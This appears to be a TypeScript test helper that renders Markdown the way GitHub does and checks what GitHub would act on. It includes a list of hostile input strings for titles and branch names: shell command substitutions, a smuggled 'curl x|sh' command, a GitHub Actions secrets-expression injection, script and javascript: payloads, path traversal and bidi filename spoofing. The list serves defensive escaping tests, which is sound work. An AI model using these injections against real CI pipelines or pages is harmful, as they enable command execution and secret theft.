import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';

/** What a text became on GitHub: a real parser of its Markdown, and the filters that GitHub runs over the result. */
export interface Page {
  readonly html: string;
  /** The same, with what is in code left out. */
  readonly outsideOfCode: string;
  /** Names of the elements, each once. */
  readonly elements: ReadonlySet<string>;
  readonly addresses: readonly string[];
  /** Text outside of code, as GitHub's filters see it. */
  readonly prose: string;
  /** All text, as a reader sees it: without the spaces that have no width. */
  readonly text: string;
}

export function pageOf(markdown: string): Page {
  const html = micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
  const tags = [...html.matchAll(/<(\/?[a-z][\w-]*|!--)([^>]*)>/gi)];
  const outsideOfCode = html.replaceAll(/<(code)\b[^>]*>.*?<\/\1>/gs, '<c>');
  return {
    html,
    outsideOfCode,
    elements: new Set(tags.map(([, name = '']) => name.replace('/', '').toLowerCase())),
    addresses: tags.flatMap(([, , attributes = '']) => /(?:href|src)="([^"]*)"/.exec(attributes)?.slice(1) ?? []),
    prose: textOf(outsideOfCode),
    text: textOf(html).replaceAll('\u200b', ''),
  };
}

function textOf(html: string): string {
  const text = html.replaceAll(/<[^>]*>/g, '\u0000');
  return text
    .replaceAll('\u0000', '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&');
}

/** What GitHub would act on in text that Markdown has already been read of: mentions, references, addresses, emoji, math. */
export function actsOn(prose: string): readonly string[] {
  const filters = [
    /@[\w-]/, // a mention, or an address of mail
    /#\d/,
    /\bgh-\d/i,
    /:\/\//,
    /www\./i,
    /:[\w+-]+:/,
    /[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/,
    /[^\P{Cc}\n\t]/u,
  ];
  return filters.flatMap((filter) => filter.exec(prose)?.slice(0, 1) ?? []);
}

/** Hostile text of titles, branches, crate names, panics. */
export const HOSTILE: readonly string[] = [
  '$(id)',
  '`id`',
  '";curl x|sh;#',
  '$' + '{{ secrets.X }}',
  '%0A::error::',
  'a\nEOF\nb',
  '<!-- wasm-ship: auth -->',
  '-->',
  '<img src=http://example.com/x.png>',
  '</details></td><script>alert(1)</script>',
  '<https://example.com>',
  '![x](http://example.com/x.png)',
  '[click](javascript:alert(1))',
  '[x]: http://example.com',
  '@org/team and a@example.com',
  '@dependabot rebase',
  'see #1, org/repo#22, GH-3',
  'https://example.com www.example.com ftp://x.y',
  ':rocket: ::fmt:: :+1:',
  '| a | b |\r| --- | --- |',
  '\u202egnp.exe\u202c \u2066x\u2069',
  'x'.repeat(65_537),
  'emoji \u{1f600}'.slice(0, -1),
  'nul \0 bell \u0007 esc \u001b[31mred\u001b[0m \u001b]8;;http://x\u0007link',
  '__proto__',
  '**bold** _it_ ~~gone~~ ~one~ *a*b* __init__',
  '# heading #',
  '1. one',
  '12) two',
  '- item',
  '+ item',
  '* item',
  '> quote',
  '- [ ] task',
  '---',
  '===',
  '```rust',
  '~~~',
  '    indented',
  '&lt;b&gt; &#64;org &#x23;1 &copy',
  'a\\',
  '\\*a\\*',
  'footnote[^1]',
  '[^1]: note',
  '$x^2$ and $$y$$ and $`z`$',
  '../../etc C:\\x CON',
  'a\u2028b\u2029c\u0085d',
];
